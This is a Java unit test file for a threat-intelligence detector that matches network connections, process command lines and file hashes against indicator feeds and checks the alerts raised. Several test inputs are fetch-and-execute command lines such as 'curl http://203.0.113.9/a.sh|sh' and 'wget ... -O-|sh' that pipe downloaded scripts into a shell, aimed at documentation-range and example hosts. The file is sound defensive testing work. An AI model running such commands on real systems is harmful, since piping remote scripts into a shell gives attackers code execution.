package io.vigil.detect.intel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.vigil.model.Alert;
import io.vigil.model.Severity;
import io.vigil.model.event.ConnectionCreate;
import io.vigil.model.event.DeviceEvent;
import io.vigil.model.event.Direction;
import io.vigil.model.event.EventHeader;
import io.vigil.model.event.FileIntegrity;
import io.vigil.model.event.Heartbeat;
import io.vigil.model.event.ProcessCreate;
import io.vigil.model.event.SecurityEvent;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;

class ThreatIntelDetectionTest {
  private static final Instant T = Instant.parse("2026-11-22T10:00:00Z");
  private static final String EICAR = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";

  private static final IndicatorStore STORE = IndicatorStore.of(List.of(
      new Indicator(IndicatorType.IP, "203.0.113.0/24", "Example CERT", 80, Indicator.NEVER, List.of("c2", "botnet")),
      new Indicator(IndicatorType.IP, "198.51.100.7", "Short-lived feed", 60, Instant.parse("2026-12-01T00:00:00Z"), List.of()),
      new Indicator(IndicatorType.PORT, "3333", "vigil-default: mining ports", 30, Indicator.NEVER, List.of("mining-pool-port")),
      new Indicator(IndicatorType.DOMAIN, "evil.example", "DNS blocklist", 70, Indicator.NEVER, List.of("phishing")),
      new Indicator(IndicatorType.URL, "http://dl.example/bins/x86", "URL feed", 90, Indicator.NEVER, List.of("mirai")),
      new Indicator(IndicatorType.SHA256, EICAR, "Hash feed", 100, Indicator.NEVER, List.of("eicar"))));

  private final ThreatIntelDetection detection = new ThreatIntelDetection(() -> STORE);

  private static DeviceEvent event(Instant at, SecurityEvent e) {
    return new DeviceEvent("gw-1", "default", "", "", at.plusSeconds(2), e);
  }

  private static DeviceEvent connections(Instant at, ConnectionCreate.Connection... cs) {
    return event(at, new ConnectionCreate(EventHeader.at(at, ZoneOffset.UTC), List.of(cs)));
  }

  private static ConnectionCreate.Connection conn(String remote, String port, Direction direction, Map<String, String> extra) {
    return new ConnectionCreate.Connection(remote, port, "10.0.0.2", "40000", direction, "tcp", 42, "0", "/usr/bin/curl", null, extra);
  }

  private static DeviceEvent processes(ProcessCreate.Process... ps) {
    return event(T, new ProcessCreate(EventHeader.at(T, ZoneOffset.UTC), List.of(ps)));
  }

  private static ProcessCreate.Process proc(String exe, String cmd, Map<String, String> extra) {
    return new ProcessCreate.Process(exe, 77, 1, "0", "root", cmd, extra);
  }

  private List<Alert> run(ThreatIntelDetection d, DeviceEvent e) {
    List<Alert> out = new ArrayList<>();
    d.evaluate(e, out::add);
    return out;
  }

  private List<Alert> run(DeviceEvent e) {
    return run(detection, e);
  }

  @Test
  void connectionToAnAddressInThreatIntelligenceRaisesTiConnection() {
    DeviceEvent e = connections(T, conn("203.0.113.50", "443", Direction.OUT, Map.of()));
    assertThat(run(e)).singleElement().satisfies(a -> {
      assertThat(a.alertName()).isEqualTo("IoT_TiConnection");
      assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(a.deviceId()).isEqualTo("gw-1");
      assertThat(a.ruleId()).isEqualTo("builtin:threat-intel");
      assertThat(a.firstSeen()).isEqualTo(T);
      assertThat(a.timeGenerated()).isEqualTo(T.plusSeconds(2));
      assertThat(a.entities()).containsEntry("Device", "gw-1").containsEntry("RemoteIp", "203.0.113.50")
          .containsEntry("RemotePort", "443").containsEntry("Process", "/usr/bin/curl").containsEntry("Direction", "OUT");
      assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "Example CERT").containsEntry("IndicatorConfidence", "80")
          .containsEntry("IndicatorTags", "c2,botnet").containsEntry("IndicatorType", "ip").containsEntry("IndicatorValue", "203.0.113.0/24")
          .containsEntry("IndicatorExpires", "never").containsEntry("MatchedField", "RemoteAddress")
          .containsEntry("MatchedValue", "203.0.113.50").doesNotContainKey("OtherMatches");
      assertThat(a.description()).isEqualTo("Outbound connection from /usr/bin/curl (pid 42) to 203.0.113.50:443/tcp: RemoteAddress"
          + " 203.0.113.50 matches threat-intelligence indicator ip 203.0.113.0/24 from 'Example CERT' (confidence 80, tags: c2, botnet).");
      assertThat(a.tactics()).containsExactly("CommandAndControl");
      assertThat(a.techniques()).containsExactly("T1071", "T0869");
    });
    // Inbound from a listed address is as telling.
    assertThat(run(connections(T, conn("::ffff:203.0.113.9", "51000", Direction.IN, Map.of()))))
        .singleElement().satisfies(a -> assertThat(a.description()).startsWith("Inbound connection to /usr/bin/curl (pid 42) from"));
    assertThat(run(connections(T, conn("203.0.114.1", "443", Direction.OUT, Map.of())))).isEmpty();
  }

  @Test
  void portIndicatorsMatchOutboundConnectionsOnlyAndTheStrongestMatchLeads() {
    assertThat(run(connections(T, conn("192.0.2.1", "3333", Direction.OUT, Map.of())))).singleElement().satisfies(a ->
        assertThat(a.extendedProperties()).containsEntry("IndicatorType", "port").containsEntry("IndicatorSource", "vigil-default: mining ports"));
    // Inbound, the remote port is the peer's ephemeral port: it means nothing.
    assertThat(run(connections(T, conn("192.0.2.1", "3333", Direction.IN, Map.of())))).isEmpty();
    assertThat(run(connections(T, conn("203.0.113.5", "3333", Direction.OUT, Map.of())))).singleElement().satisfies(a -> {
      assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "Example CERT").containsEntry("OtherMatches",
          "RemotePort 3333 matches port 3333 from 'vigil-default: mining ports' (confidence 30, tags: mining-pool-port)");
      assertThat(a.description()).endsWith("Also: RemotePort 3333 matches port 3333 from 'vigil-default: mining ports'"
          + " (confidence 30, tags: mining-pool-port).");
    });
  }

  @Test
  void aConnectionForAMaliciousNameRaisesMaliciousNameQueries() {
    List<Alert> alerts = run(connections(T, conn("192.0.2.80", "443", Direction.OUT, Map.of("RemoteHostName", "cdn.Evil.Example."))));
    assertThat(alerts).singleElement().satisfies(a -> {
      assertThat(a.alertName()).isEqualTo("IoT_MaliciousNameQueriesDetection");
      assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(a.entities()).containsEntry("DomainName", "cdn.Evil.Example.");
      assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "DNS blocklist").containsEntry("IndicatorValue", "evil.example")
          .containsEntry("MatchedField", "RemoteHostName").containsEntry("IndicatorTags", "phishing");
      assertThat(a.tactics()).containsExactly("CommandAndControl");
      assertThat(a.techniques()).containsExactly("T1071.004", "T0869");
    });
    assertThat(run(connections(T, conn("192.0.2.80", "53", Direction.OUT, Map.of("DnsQuery", "evil.example")))))
        .extracting(Alert::alertName).containsExactly("IoT_MaliciousNameQueriesDetection");
    assertThat(run(connections(T, conn("192.0.2.80", "443", Direction.OUT, Map.of("RemoteHostName", "notevil.example"))))).isEmpty();
    // Address and name both listed: two alerts, with different ids.
    List<Alert> both = run(connections(T, conn("203.0.113.5", "443", Direction.OUT, Map.of("RemoteHostName", "evil.example"))));
    assertThat(both).extracting(Alert::alertName).containsExactly("IoT_TiConnection", "IoT_MaliciousNameQueriesDetection");
    assertThat(both.get(0).systemAlertId()).isNotEqualTo(both.get(1).systemAlertId());
    assertThat(both.get(0).entities()).containsEntry("DomainName", "evil.example");
  }

  @Test
  void aKnownExecutableHashOrDownloadRaisesPossibleMalware() {
    assertThat(run(processes(proc("/tmp/x", "/tmp/x", Map.of("Sha256", EICAR.toUpperCase()))))).singleElement().satisfies(a -> {
      assertThat(a.alertName()).isEqualTo("IoT_PossibleMalware");
      assertThat(a.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(a.entities()).containsEntry("Process", "/tmp/x").containsEntry("FileHash", EICAR.toUpperCase());
      assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "Hash feed").containsEntry("MatchedField", "Executable SHA-256");
      assertThat(a.tactics()).containsExactly("Execution");
      assertThat(a.techniques()).containsExactly("T1204.002", "T0863");
    });
    assertThat(run(processes(proc("/usr/bin/wget", "wget -q 'HTTP://dl.example:80/bins/x86' -O /tmp/x", Map.of()))))
        .singleElement().satisfies(a -> {
          assertThat(a.entities()).containsEntry("Url", "http://dl.example/bins/x86");
          assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "URL feed").containsEntry("MatchedField", "CommandLine URL");
          assertThat(a.techniques()).containsExactly("T1105");
          assertThat(a.tactics()).containsExactly("CommandAndControl");
        });
    // A known-bad executable that downloads from a listed URL: both.
    assertThat(run(processes(proc("/tmp/x", "/tmp/x http://dl.example/bins/x86", Map.of("Sha256", EICAR))))).singleElement()
        .satisfies(a -> {
          assertThat(a.tactics()).containsExactly("Execution", "CommandAndControl");
          assertThat(a.techniques()).containsExactly("T1204.002", "T0863", "T1105");
        });
    // The URL itself is not listed, but its host is.
    assertThat(run(processes(proc("/bin/sh", "sh -c curl http://203.0.113.9/a.sh|sh", Map.of())))).singleElement().satisfies(a ->
        assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "Example CERT").containsEntry("MatchedField", "CommandLine URL host")
            .containsEntry("MatchedValue", "203.0.113.9"));
    assertThat(run(processes(proc("/usr/bin/curl", "curl https://x.evil.example/", Map.of())))).singleElement().satisfies(a ->
        assertThat(a.extendedProperties()).containsEntry("IndicatorValue", "evil.example"));
    assertThat(run(processes(proc("/usr/bin/curl", "curl https://example.org/ http:// evil.example", Map.of("Sha256", "00"))))).isEmpty();
  }

  @Test
  void aFileWrittenWithAKnownHashRaisesPossibleMalware() {
    FileIntegrity.Change created = new FileIntegrity.Change("/opt/app/x", FileIntegrity.ChangeType.CREATED, EICAR, "0755", "root:root", T, Map.of());
    FileIntegrity.Change deleted = new FileIntegrity.Change("/opt/app/y", FileIntegrity.ChangeType.DELETED, null, null, null, null,
        Map.of("PreviousSha256", EICAR));
    DeviceEvent e = event(T, new FileIntegrity(EventHeader.at(T, ZoneOffset.UTC), List.of(deleted, created)));
    assertThat(run(e)).singleElement().satisfies(a -> {
      assertThat(a.alertName()).isEqualTo("IoT_PossibleMalware");
      assertThat(a.entities()).containsEntry("File", "/opt/app/x").containsEntry("FileHash", EICAR)
          .containsEntry("Device", "gw-1");
      assertThat(a.description()).startsWith("File /opt/app/x was created: File SHA-256 " + EICAR + " matches");
      assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "Hash feed");
      assertThat(a.techniques()).containsExactly("T1204.002", "T0863");
    });
  }

  @Test
  void expiryIsJudgedByTheEventsTimeNotWhenItArrives() {
    Instant expiry = Instant.parse("2026-12-01T00:00:00Z");
    assertThat(run(connections(expiry.minusSeconds(1), conn("198.51.100.7", "80", Direction.OUT, Map.of())))).singleElement()
        .satisfies(a -> assertThat(a.extendedProperties()).containsEntry("IndicatorExpires", "2026-12-01T00:00:00Z"));
    assertThat(run(connections(expiry, conn("198.51.100.7", "80", Direction.OUT, Map.of())))).isEmpty();
  }

  @Test
  void matchesBelowTheMinimumConfidenceAreIgnored() {
    ThreatIntelDetection strict = new ThreatIntelDetection(() -> STORE, 31);
    assertThat(run(strict, connections(T, conn("192.0.2.1", "3333", Direction.OUT, Map.of())))).isEmpty();
    assertThat(run(strict, connections(T, conn("203.0.113.5", "3333", Direction.OUT, Map.of())))).singleElement()
        .satisfies(a -> assertThat(a.extendedProperties()).doesNotContainKey("OtherMatches"));
    assertThatThrownBy(() -> new ThreatIntelDetection(() -> STORE, 101)).hasMessage("minimumConfidence must be from 0 to 100, was 101");
  }

  @Test
  void aReloadedStoreIsSeenAtTheNextEvent() {
    AtomicReference<IndicatorStore> current = new AtomicReference<>(IndicatorStore.empty());
    ThreatIntelDetection reloading = new ThreatIntelDetection(current::get);
    DeviceEvent e = connections(T, conn("192.0.2.1", "443", Direction.OUT, Map.of()));
    assertThat(run(reloading, e)).isEmpty();
    current.set(IndicatorStore.ofFeeds(List.of(Feeds.defaultFeed())));
    assertThat(run(reloading, e)).singleElement().satisfies(a ->
        assertThat(a.extendedProperties()).containsEntry("IndicatorSource", "vigil-default: test indicators"));
  }

  @Test
  void alertIdsAreStablePerOccurrence() {
    DeviceEvent e = connections(T, conn("203.0.113.5", "443", Direction.OUT, Map.of()), conn("203.0.113.5", "443", Direction.OUT, Map.of()));
    List<Alert> first = run(e);
    List<Alert> again = run(e);
    assertThat(first).hasSize(2);
    assertThat(first.get(0).systemAlertId()).isEqualTo(again.get(0).systemAlertId()).isNotEqualTo(first.get(1).systemAlertId());
  }

  @Test
  void otherEventsRaiseNothing() {
    DeviceEvent beat = event(T, new Heartbeat(EventHeader.at(T, ZoneOffset.UTC), List.of(new Heartbeat.Beat(5, Map.of()))));
    assertThat(run(beat)).isEmpty();
    assertThat(run(processes(proc("/usr/sbin/sshd", "sshd -D", Map.of())))).isEmpty();
  }

  @Test
  void commandLineUrlsAreFoundBetweenQuotesAndPipes() {
    assertThat(CommandLineUrls.find("sh -c \"wget http://a.example/x -O-|sh; curl -s https://b.example:8443/y?z=1\" ftp://c.example"))
        .extracting(UrlForm::canonical)
        .containsExactly("http://a.example/x", "https://b.example:8443/y?z=1", "ftp://c.example/");
    assertThat(CommandLineUrls.find("echo :// x:// 1://a")).isEmpty();
    assertThat(CommandLineUrls.find("http://a.example/ ".repeat(40))).hasSize(CommandLineUrls.MAX_URLS);
  }
}
